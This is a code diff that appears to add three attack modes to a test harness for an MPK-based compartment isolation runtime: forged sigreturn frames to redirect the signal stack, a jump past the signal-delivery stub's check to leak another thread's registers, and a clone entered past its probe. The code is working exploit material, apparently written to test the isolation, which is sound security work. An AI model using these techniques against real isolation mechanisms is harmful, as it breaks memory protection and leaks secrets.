@@ -1566,6 +1566,364 @@ int evil_spawn(int which)
 	return err ? err : pthread_detach(t);
 }
 
+/* ==== review (2026-12-07): three attacks on today's changes ==== */
+
+/*
+ * Mode 63, sigreturn-altstack: rt_sigreturn's restore_altstack sets the
+ * thread's signal stack from the frame's uc_stack, past the sigaltstack
+ * filter. evil captures a frame of its own (its handler of SIGUSR1, its
+ * own PKRU), copies it to its memory with uc_stack naming a stack that
+ * ends over app's secret, and returns through the runtime's restorer
+ * (unsnapshotted path: checked, PKRU = evil's, accepted). Then as
+ * frame_sigframe: the thread enters app and gets a signal.
+ */
+static unsigned char rv_tmpl_uc[304] __attribute__((aligned(64)));
+static unsigned char rv_tmpl_fp[16384] __attribute__((aligned(64)));
+static volatile int rv_tmpl_done;
+
+static void rv_tmpl_handler(int sig, siginfo_t *si, void *ctx)
+{
+	const ucontext_t *uc = ctx;
+	(void)sig;
+	(void)si;
+	memcpy(rv_tmpl_uc, ctx, sizeof(rv_tmpl_uc));
+	memcpy(rv_tmpl_fp, uc->uc_mcontext.fpregs, flexos__mpk_ro.ro.xsave_size + 4);
+	rv_tmpl_done = 1;
+}
+
+void evil_forge_return(void *uc);
+__asm__(".text\n"
+	".globl evil_forge_return\n"
+	"evil_forge_return:\n"
+	"pushq %rbx\n pushq %rbp\n pushq %r12\n pushq %r13\n pushq %r14\n pushq %r15\n"
+	"movq %rsp, 160(%rdi)\n" /* gregs[REG_RSP] */
+	"leaq 1f(%rip), %rax\n"
+	"movq %rax, 168(%rdi)\n" /* gregs[REG_RIP] */
+	"movq %rdi, %rsp\n"
+	"jmp flexos__mpk_sigreturn\n"
+	"1: popq %r15\n popq %r14\n popq %r13\n popq %r12\n popq %rbp\n popq %rbx\n"
+	"ret\n");
+
+struct rv_forged {
+	unsigned char below[8192];
+	unsigned char uc[304];
+} __attribute__((aligned(64)));
+static struct rv_forged rv_frames[2];
+static unsigned char rv_fp[2][16384] __attribute__((aligned(64)));
+
+static int rv_capture(void)
+{
+	struct sigaction sa;
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_sigaction = rv_tmpl_handler;
+	sa.sa_flags = SA_SIGINFO;
+	if (sigaction(SIGUSR1, &sa, NULL))
+		return -1;
+	syscall(SYS_tgkill, getpid(), (pid_t)syscall(SYS_gettid), SIGUSR1);
+	for (int i = 0; i < 100 && !rv_tmpl_done; i++)
+		usleep(1000);
+	return rv_tmpl_done ? 0 : -1;
+}
+
+/* This thread's signal stack set by a forged frame's uc_stack; what the kernel says after. */
+static void rv_altstack_by_sigreturn(int slot, void *sp, size_t size, stack_t *now)
+{
+	struct rv_forged *f = &rv_frames[slot];
+	void *fp = rv_fp[slot];
+	stack_t ss = {.ss_sp = sp, .ss_flags = 0, .ss_size = size};
+
+	memcpy(f->uc, rv_tmpl_uc, sizeof(f->uc));
+	memcpy(rv_fp[slot], rv_tmpl_fp, sizeof(rv_fp[slot]));
+	memcpy(f->uc + 224, &fp, sizeof(fp)); /* uc_mcontext.fpregs */
+	memcpy(f->uc + 16, &ss, sizeof(ss));  /* uc_stack */
+	evil_forge_return(f->uc);
+	syscall(SYS_sigaltstack, NULL, now);
+}
+
+struct rv_arg {
+	uintptr_t top, size;
+	int slot, stay;
+	volatile pid_t tid;
+	volatile int ready;
+	stack_t now;
+};
+
+static void *rv_victim(void *arg)
+{
+	struct rv_arg *a = arg;
+
+	a->tid = (pid_t)syscall(SYS_gettid);
+	rv_altstack_by_sigreturn(a->slot, (void *)(a->top - a->size), a->size, &a->now);
+	a->ready = 1;
+	if (a->stay)
+		for (;;)
+			usleep(1000);
+	app_busy(); /* ~300 ms in 'app', with app's PKRU */
+	return NULL;
+}
+
+static long sigreturn_altstack(uintptr_t target)
+{
+	static struct rv_arg c, a;
+	pthread_t t;
+	const unsigned long value = 0xdeadbeefcafe;
+
+	if (rv_capture()) {
+		printf("sigreturn-altstack: no frame captured\n");
+		return 0;
+	}
+	if (stub_action(SIGUSR2)) {
+		printf("sigreturn-altstack: rt_sigaction: %s\n", strerror(errno));
+		return 0;
+	}
+	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	c.top = (uintptr_t)buf + 0x20000 - 0x10;
+	c.size = 0x10000;
+	c.slot = 0;
+	c.stay = 1;
+	if (pthread_create(&t, NULL, rv_victim, &c))
+		return 0;
+	pthread_detach(t);
+	while (!c.ready)
+		usleep(1000);
+	printf("sigreturn-altstack: calibration thread's signal stack after the forged return: "
+	       "%p + %#lx flags %#x (asked %#lx + %#lx)\n",
+	       c.now.ss_sp, (unsigned long)c.now.ss_size, (unsigned)c.now.ss_flags,
+	       (unsigned long)(c.top - c.size), (unsigned long)c.size);
+	usleep(10000);
+	queue_marked(c.tid, value);
+	usleep(50000);
+	uintptr_t lo_cal = marked_word(buf, value);
+	printf("sigreturn-altstack: calibration: siginfo's words %#lx below the top\n",
+	       lo_cal ? (unsigned long)(c.top - lo_cal) : 0UL);
+	if (!lo_cal) {
+		errno = ENOENT;
+		return 0;
+	}
+	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
+	a.size = 0x10000;
+	if (k == 4) {
+		lo = target + 0x120;
+		a.size = 0x41414;
+	} else if (k > 4) {
+		lo = target - 8 * k;
+	}
+	a.top = c.top + (lo - lo_cal);
+	a.slot = 1;
+	printf("sigreturn-altstack: target %#lx, word %lu, top %#lx\n", (unsigned long)target,
+	       (unsigned long)k, (unsigned long)a.top);
+	if (pthread_create(&t, NULL, rv_victim, &a))
+		return 0;
+	pthread_detach(t);
+	while (!a.ready)
+		usleep(1000);
+	printf("sigreturn-altstack: victim's signal stack after the forged return: %p + %#lx\n",
+	       a.now.ss_sp, (unsigned long)a.now.ss_size);
+	usleep(100000); /* in app_busy */
+	long r = queue_marked(a.tid, value);
+	printf("sigreturn-altstack: rt_tgsigqueueinfo %ld\n", r);
+	fflush(stdout);
+	usleep(400000);
+	errno = 0;
+	return 0;
+}
+
+/*
+ * Mode 64, copy-key-read: a jump past the delivery stub's entry check
+ * (documented as possible), with %r14 (the "frame") = a word of another
+ * thread's copy area - MPK_UC_FPREGS: SIG_COPY_FRAME, with the copy key
+ * open, takes that word as the XSAVE pointer and copies from it; a value
+ * that is no readable address faults there, and evil's SIGSEGV handler
+ * gets it in si_addr. Each read in a child of fork().
+ */
+void evil_stub_read(uintptr_t ctx, int sig, uint32_t pkru);
+__asm__(".text\n"
+	".globl evil_stub_read\n"
+	"evil_stub_read:\n"
+	"movq %rdi, %r14\n"
+	"movl %esi, %r12d\n"
+	"xorl %r13d, %r13d\n"
+	"movl %edx, %eax\n"
+	"jmp flexos__mpk_sig_deliver_checked\n");
+
+struct rv_leak {
+	volatile unsigned long addr, rip, done;
+};
+static struct rv_leak *rv_leak;
+
+static void rv_leak_handler(int sig, siginfo_t *si, void *ctx)
+{
+	const ucontext_t *uc = ctx;
+	(void)sig;
+	rv_leak->addr = si ? (unsigned long)si->si_addr : ~0UL;
+	rv_leak->rip = uc ? (unsigned long)uc->uc_mcontext.gregs[REG_RIP] : 0;
+	rv_leak->done = 1;
+	_exit(0);
+}
+
+struct rv_reader {
+	volatile pid_t tid;
+	volatile unsigned long self;
+};
+
+static void *rv_reader_victim(void *arg)
+{
+	struct rv_reader *v = arg;
+
+	v->self = (unsigned long)pthread_self();
+	v->tid = (pid_t)syscall(SYS_gettid);
+	app_busy(); /* 300 ms in 'app' */
+	return NULL;
+}
+
+extern char flexos__mpk_gate_text_lo[], flexos__mpk_gate_text_hi[];
+
+static long copy_key_read(long secret)
+{
+	static struct rv_reader v;
+	struct sigaction sa;
+	pthread_t t;
+	static const char *const names[] = {"r8",  "r9",  "r10", "r11", "r12", "r13",
+					    "r14", "r15", "rdi", "rsi", "rbp", "rbx",
+					    "rdx", "rax", "rcx", "rsp", "rip"};
+
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_handler = copy_handler;
+	if (sigaction(SIGUSR2, &sa, NULL) || pthread_create(&t, NULL, rv_reader_victim, &v))
+		return 0;
+	pthread_detach(t);
+	while (!v.tid)
+		usleep(1000);
+	usleep(100000); /* in app_busy now */
+	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
+	usleep(100000);
+	const char *page = (const char *)flexos__mpk_pkru;
+	uintptr_t copy, stride, gp = 0;
+	memcpy(&copy, page + MPK_PKRU_SIG_COPY, sizeof(copy));
+	memcpy(&stride, page + MPK_PKRU_SIG_COPY_STRIDE, sizeof(stride));
+	for (uintptr_t p = flexos__mpk_ro.ro.gp_lo; p < flexos__mpk_ro.ro.gp_hi; p += 4096)
+		if (*(volatile uint64_t *)(p + MPK_G_FSBASE) == v.self &&
+		    *(volatile uint64_t *)(p + MPK_G_OWNER)) {
+			gp = p;
+			break;
+		}
+	if (!gp) {
+		printf("copy-key-read: the victim's gate page not found\n");
+		errno = ENOENT;
+		return 0;
+	}
+	uintptr_t idx = (gp - flexos__mpk_ro.ro.gp_lo) / 4096;
+	uintptr_t last_uc =
+	    copy + (idx * MPK_SIG_AREAS + MPK_SIG_FRAMES) * stride + MPK_SIG_COPY_UC;
+	/* Direct reads first: the kernel copies under evil's PKRU (EFAULT if it cannot). */
+	int fds[2];
+	long w = 0;
+	if (pipe(fds))
+		return 0;
+	printf(
+	    "copy-key-read: victim's gate page %lu, last area's ucontext %#lx; a direct read: %s\n",
+	    (unsigned long)idx, (unsigned long)last_uc,
+	    write(fds[1], (const void *)(last_uc + MPK_UC_GREGS), 8) == 8 ? "readable"
+									  : strerror(errno));
+	(void)w;
+	rv_leak = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (rv_leak == MAP_FAILED)
+		return 0;
+	long needle = app_stack_value(secret);
+	int found = 0;
+	for (int k = 0; k < 17; k++) {
+		uintptr_t target = last_uc + MPK_UC_GREGS + 8 * (uintptr_t)k;
+		rv_leak->done = 0;
+		fflush(stdout);
+		pid_t pid = fork();
+		if (pid < 0)
+			return 0;
+		if (pid == 0) {
+			struct sigaction s;
+			memset(&s, 0, sizeof(s));
+			s.sa_sigaction = rv_leak_handler;
+			s.sa_flags = SA_SIGINFO;
+			if (sigaction(SIGSEGV, &s, NULL))
+				_exit(2);
+			evil_stub_read(target - MPK_UC_FPREGS, SIGSEGV,
+				       flexos__mpk_ro.ro.sigret_pkru);
+			_exit(3);
+		}
+		int st = 0;
+		for (int i = 0; i < 2000 && waitpid(pid, &st, WNOHANG) == 0; i++)
+			usleep(1000);
+		if (waitpid(pid, &st, WNOHANG) == 0) {
+			kill(pid, SIGKILL);
+			waitpid(pid, &st, 0);
+		}
+		int in_gate = rv_leak->rip >= (unsigned long)flexos__mpk_gate_text_lo &&
+			      rv_leak->rip < (unsigned long)flexos__mpk_gate_text_hi;
+		printf("copy-key-read: app's %-3s (copy-key word %#lx): %s %#lx, fault at %#lx%s\n",
+		       names[k], (unsigned long)target,
+		       rv_leak->done ? "si_addr" : "no fault, status",
+		       rv_leak->done ? rv_leak->addr : (unsigned long)st, rv_leak->rip,
+		       in_gate ? " (the gate's code)" : "");
+		if (rv_leak->done && rv_leak->addr == (unsigned long)needle) {
+			printf("copy-key-read: app's value %#lx read from the copy key's memory "
+			       "(its %s)\n",
+			       (unsigned long)needle, names[k]);
+			found = 1;
+		}
+	}
+	fflush(stdout);
+	if (found)
+		return 1;
+	errno = ENOENT;
+	return 0;
+}
+
+/*
+ * Mode 65, clone-cleartid-jump: clone_cleartid, entering the clone site
+ * right past its CLONE_CHILD_CLEARTID probe (the registers as its prologue
+ * leaves them), which nothing after the nonce's WRPKRU checks again.
+ */
+long evil_clone_past_probe(unsigned long flags, void *stack, uintptr_t child_tid, long tls);
+__asm__(".text\n"
+	".globl evil_clone_past_probe\n"
+	"evil_clone_past_probe:\n"
+	"pushq %rbx\n pushq %rbp\n pushq %r12\n pushq %r13\n pushq %r14\n pushq %r15\n"
+	"subq $8, %rsp\n"
+	"movq %rdi, %rbx\n"
+	"movq %rsi, %rbp\n"
+	"xorl %r12d, %r12d\n"
+	"movq %rdx, %r13\n"
+	"movq %rcx, %r14\n"
+	"leaq 2f(%rip), %r15\n"
+	"jmp flexos__mpk_clone_mask_read\n"
+	"2: testq %rax, %rax\n"
+	"jnz 3f\n"
+	"call cleartid_child\n"
+	"ud2\n"
+	"3: ret\n");
+
+static char cleartid_stack2[65536] __attribute__((aligned(16)));
+
+static long clone_cleartid_jump(uintptr_t target)
+{
+	pthread_t t0;
+	if (pthread_create(&t0, NULL, cleartid_first, NULL) || pthread_join(t0, NULL))
+		return 0;
+	unsigned long flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD |
+			      CLONE_SYSVSEM | CLONE_SETTLS | CLONE_CHILD_CLEARTID;
+	fprintf(stderr, "clone-cleartid-jump: clone site past its probe, child_tid %#lx\n",
+		(unsigned long)target);
+	long ret = evil_clone_past_probe(flags, cleartid_stack2 + sizeof(cleartid_stack2), target,
+					 (long)t0);
+	fprintf(stderr, "clone-cleartid-jump: clone returned %ld\n", ret);
+	if (ret < 0) {
+		errno = (int)-ret;
+		return 0;
+	}
+	usleep(500000); /* the thread calls app, which ends it */
+	errno = 0;
+	return 0;
+}
+
 /* The intel-mpk backend's holders of each compartment's pool of thread stacks (stacks.c). */
 const uint64_t *flexos__mpk_pool_holders(uint64_t comp, size_t *n) __attribute__((weak));
 
@@ -1785,6 +2143,12 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return run_program();
 	case 57:
 		return helper_empty();
+	case 63:
+		return sigreturn_altstack(target);
+	case 64:
+		return copy_key_read(secret);
+	case 65:
+		return clone_cleartid_jump(target);
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
